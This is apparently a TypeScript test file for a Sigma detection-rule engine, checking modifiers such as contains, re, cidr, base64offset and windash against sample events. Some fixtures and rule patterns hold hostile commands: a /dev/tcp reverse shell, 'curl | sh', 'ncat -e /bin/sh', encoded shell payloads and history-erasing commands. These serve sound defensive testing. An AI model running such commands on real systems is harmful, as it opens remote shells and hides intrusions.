// Every Sigma value modifier and wildcard escape against hand-built events: each case has an event that
// must match and one that must not, so a broken modifier fails the test.
import { test } from "node:test";
import assert from "node:assert/strict";
import { base64, base64Offsets, windash } from "../../src/hunt/encode.js";
import { ev, reason, rule } from "./hunt-helpers.js";

function check(
  detection: string,
  yes: Array<Record<string, string | number | undefined>>,
  no: Array<Record<string, string | number | undefined>>,
  category: Parameters<typeof rule>[1] = "process_creation",
): void {
  const r = rule(detection, category);
  for (const f of yes) assert.equal(r.test(ev(f, category)), true, `${detection} should match ${JSON.stringify(f)}`);
  for (const f of no)
    assert.equal(r.test(ev(f, category)), false, `${detection} should not match ${JSON.stringify(f)}`);
}

test("plain value: whole-value match, case-insensitive by default", () => {
  check(
    "sel:\n  Image: /usr/bin/Curl\ncondition: sel",
    [{ Image: "/usr/bin/curl" }, { Image: "/USR/BIN/CURL" }],
    [{ Image: "/usr/bin/curl2" }, { Image: "x/usr/bin/curl" }, {}],
  );
});

test("value list: OR", () => {
  check(
    "sel:\n  Image:\n    - /bin/sh\n    - /bin/bash\ncondition: sel",
    [{ Image: "/bin/sh" }, { Image: "/bin/bash" }],
    [{ Image: "/bin/dash" }],
  );
});

test("map: AND of its fields; list of maps: OR", () => {
  check(
    "sel:\n  Image: /bin/sh\n  User: '0'\ncondition: sel",
    [{ Image: "/bin/sh", User: "0" }],
    [{ Image: "/bin/sh", User: "1000" }, { User: "0" }],
  );
  check(
    "sel:\n  - Image: /bin/sh\n  - User: '0'\ncondition: sel",
    [
      { Image: "/bin/sh", User: "1000" },
      { Image: "/x", User: "0" },
    ],
    [{ Image: "/x", User: "1" }],
  );
});

test("contains, startswith, endswith", () => {
  check(
    "sel:\n  CommandLine|contains: /dev/tcp/\ncondition: sel",
    [{ CommandLine: "bash -i >& /DEV/TCP/1.2.3.4/5" }],
    [{ CommandLine: "bash -i" }],
  );
  check("sel:\n  Image|startswith: /tmp/\ncondition: sel", [{ Image: "/tmp/x" }], [{ Image: "/var/tmp/x" }]);
  check("sel:\n  Image|endswith: /nc\ncondition: sel", [{ Image: "/usr/bin/nc" }], [{ Image: "/usr/bin/nc.openbsd" }]);
});

test("all: every value of the list", () => {
  check(
    "sel:\n  CommandLine|contains|all:\n    - curl\n    - '| sh'\ncondition: sel",
    [{ CommandLine: "curl http://x | sh" }],
    [{ CommandLine: "curl http://x" }, { CommandLine: "wget x | sh" }],
  );
});

test("wildcards * and ? and their escapes", () => {
  check(
    "sel:\n  Image: /usr/bin/python3.?\ncondition: sel",
    [{ Image: "/usr/bin/python3.9" }],
    [{ Image: "/usr/bin/python3.10" }, { Image: "/usr/bin/python3." }],
  );
  check(
    "sel:\n  Image: '/opt/*/bin/*d'\ncondition: sel",
    [{ Image: "/opt/a/b/bin/sshd" }],
    [{ Image: "/opt/a/bin/ssh" }],
  );
  check(
    "sel:\n  CommandLine: 'echo \\*'\ncondition: sel",
    [{ CommandLine: "echo *" }],
    [{ CommandLine: "echo hello" }],
  );
  check("sel:\n  CommandLine: 'what\\?'\ncondition: sel", [{ CommandLine: "what?" }], [{ CommandLine: "whatx" }]);
  // `\\*` is one backslash followed by a wildcard; a lone backslash is itself.
  check(
    "sel:\n  CommandLine: 'a\\\\*'\ncondition: sel",
    [{ CommandLine: "a\\anything" }, { CommandLine: "a\\" }],
    [{ CommandLine: "a*" }, { CommandLine: "ab" }],
  );
  check("sel:\n  CommandLine: 'c:\\w'\ncondition: sel", [{ CommandLine: "c:\\w" }], [{ CommandLine: "c:w" }]);
  check(
    "sel:\n  CommandLine|contains: '50\\%'\ncondition: sel",
    [{ CommandLine: "at 50\\% load" }],
    [{ CommandLine: "at 50% load" }],
  );
});

test("cased: case-sensitive", () => {
  check(
    "sel:\n  CommandLine|cased: HISTFILE\ncondition: sel",
    [{ CommandLine: "HISTFILE" }],
    [{ CommandLine: "histfile" }],
  );
  check(
    "sel:\n  CommandLine|contains|cased: HISTFILE\ncondition: sel",
    [{ CommandLine: "unset HISTFILE" }],
    [{ CommandLine: "unset histfile" }],
  );
});

test("re and its i, m, s sub-modifiers", () => {
  check(
    "sel:\n  CommandLine|re: 'nc(at)? .*-e '\ncondition: sel",
    [{ CommandLine: "ncat 1.2.3.4 -e /bin/sh" }],
    [{ CommandLine: "NC 1 -e x" }],
  );
  check("sel:\n  CommandLine|re|i: '^nc '\ncondition: sel", [{ CommandLine: "NC 1 -e x" }], [{ CommandLine: "xnc 1" }]);
  check(
    "sel:\n  CommandLine|re|m: '^second$'\ncondition: sel",
    [{ CommandLine: "first\nsecond" }],
    [{ CommandLine: "first second" }],
  );
  check(
    "sel:\n  CommandLine|re|s: 'a.b'\ncondition: sel",
    [{ CommandLine: "a\nb" }, { CommandLine: "axb" }],
    [{ CommandLine: "ab" }],
  );
  check("sel:\n  CommandLine|re: 'a.b'\ncondition: sel", [{ CommandLine: "axb" }], [{ CommandLine: "a\nb" }]);
  assert.match(reason("sel:\n  CommandLine|re: '(unclosed'\ncondition: sel"), /does not compile/);
});

test("cidr: IPv4, IPv6 and IPv4-mapped addresses", () => {
  const c = "network_connection" as const;
  check(
    "sel:\n  DestinationIp|cidr:\n    - 10.0.0.0/8\n    - 'fd00::/8'\ncondition: sel",
    [{ DestinationIp: "10.1.2.3" }, { DestinationIp: "fd12::1" }, { DestinationIp: "::ffff:10.9.9.9" }],
    [{ DestinationIp: "11.0.0.1" }, { DestinationIp: "fe80::1" }, {}],
    c,
  );
  check(
    "sel:\n  DestinationIp|cidr: 127.0.0.1\ncondition: sel",
    [{ DestinationIp: "127.0.0.1" }],
    [{ DestinationIp: "127.0.0.2" }],
    c,
  );
  assert.match(reason("sel:\n  DestinationIp|cidr: 10.0.0.0/33\ncondition: sel", c), /not a CIDR/);
});

test("base64 and base64offset", () => {
  assert.equal(base64("/bin/sh"), "L2Jpbi9zaA==");
  assert.deepEqual(base64Offsets("/bin/sh"), ["L2Jpbi9za", "9iaW4vc2", "vYmluL3No"]);
  const blob = (prefix: string) => `echo ${Buffer.from(`${prefix}/bin/sh -i`).toString("base64")} | base64 -d`;
  check(
    "sel:\n  CommandLine|base64offset|contains: /bin/sh\ncondition: sel",
    [{ CommandLine: blob("") }, { CommandLine: blob("x") }, { CommandLine: blob("xy") }],
    [{ CommandLine: blob("").toLowerCase() }, { CommandLine: "echo /bin/sh" }],
  );
  check(
    "sel:\n  CommandLine|base64|contains: /bin/sh\ncondition: sel",
    [{ CommandLine: "echo L2Jpbi9zaA== | base64 -d" }],
    [{ CommandLine: "echo l2jpbi9zaa==" }, { CommandLine: blob("x") }],
  );
});

test("windash: every dash form of an option", () => {
  assert.deepEqual(windash("x -e y").length, 5);
  check(
    "sel:\n  CommandLine|windash|contains: ' -e '\ncondition: sel",
    [
      { CommandLine: "nc 1 -e sh" },
      { CommandLine: "nc 1 /e sh" },
      { CommandLine: "nc 1 \u2013e sh" },
      { CommandLine: "nc 1 \u2014e sh" },
      { CommandLine: "nc 1 \u2015e sh" },
    ],
    [{ CommandLine: "nc 1 +e sh" }],
  );
});

test("exists: the field is present or absent", () => {
  check("sel:\n  CurrentDirectory|exists: true\ncondition: sel", [{ CurrentDirectory: "/" }], [{ Image: "/x" }]);
  check("sel:\n  CurrentDirectory|exists: false\ncondition: sel", [{ Image: "/x" }], [{ CurrentDirectory: "/" }]);
});

test("gt, gte, lt, lte on numbers", () => {
  const c = "network_connection" as const;
  check(
    "sel:\n  DestinationPort|gt: 1024\ncondition: sel",
    [{ DestinationPort: 1025 }],
    [{ DestinationPort: 1024 }, {}],
    c,
  );
  check(
    "sel:\n  DestinationPort|gte: 1024\ncondition: sel",
    [{ DestinationPort: 1024 }],
    [{ DestinationPort: 1023 }],
    c,
  );
  check(
    "sel:\n  DestinationPort|lt: 1024\ncondition: sel",
    [{ DestinationPort: 1023 }],
    [{ DestinationPort: 1024 }],
    c,
  );
  check(
    "sel:\n  DestinationPort|lte: 1024\ncondition: sel",
    [{ DestinationPort: 1024 }],
    [{ DestinationPort: 1025 }],
    c,
  );
  assert.match(reason("sel:\n  DestinationPort|gt: many\ncondition: sel", c), /needs a number/);
});

test("fieldref: one field equals (or contains, …) another", () => {
  const c = "file_delete" as const;
  check(
    "sel:\n  TargetFilename|fieldref: Image\ncondition: sel",
    [{ TargetFilename: "/tmp/X", Image: "/tmp/x" }],
    [{ TargetFilename: "/tmp/y", Image: "/tmp/x" }, { TargetFilename: "/tmp/x" }],
    c,
  );
  check(
    "sel:\n  TargetFilename|fieldref|cased: Image\ncondition: sel",
    [{ TargetFilename: "/tmp/x", Image: "/tmp/x" }],
    [{ TargetFilename: "/tmp/X", Image: "/tmp/x" }],
    c,
  );
  check(
    "sel:\n  CommandLine|fieldref|contains: TargetFilename\ncondition: sel",
    [{ CommandLine: "rm -f /tmp/x", TargetFilename: "/tmp/x" }],
    [{ CommandLine: "rm -f /tmp/y", TargetFilename: "/tmp/x" }],
    c,
  );
});

test("null: the field is absent or empty", () => {
  check(
    "sel:\n  CurrentDirectory: null\ncondition: sel",
    [{ Image: "/x" }, { CurrentDirectory: "" }],
    [{ CurrentDirectory: "/" }],
  );
});

test("numbers as values compare with the field's text", () => {
  check(
    "sel:\n  DestinationPort: 4444\ncondition: sel",
    [{ DestinationPort: 4444 }],
    [{ DestinationPort: 44444 }],
    "network_connection",
  );
});

test("unfielded keywords: any field contains one of them", () => {
  check(
    "keywords:\n  - 'HISTFILE=/dev/null'\n  - 'history -c'\ncondition: keywords",
    [{ CommandLine: "export HISTFILE=/dev/null" }, { ParentCommandLine: "bash -c history -c" }],
    [{ CommandLine: "history" }],
  );
});
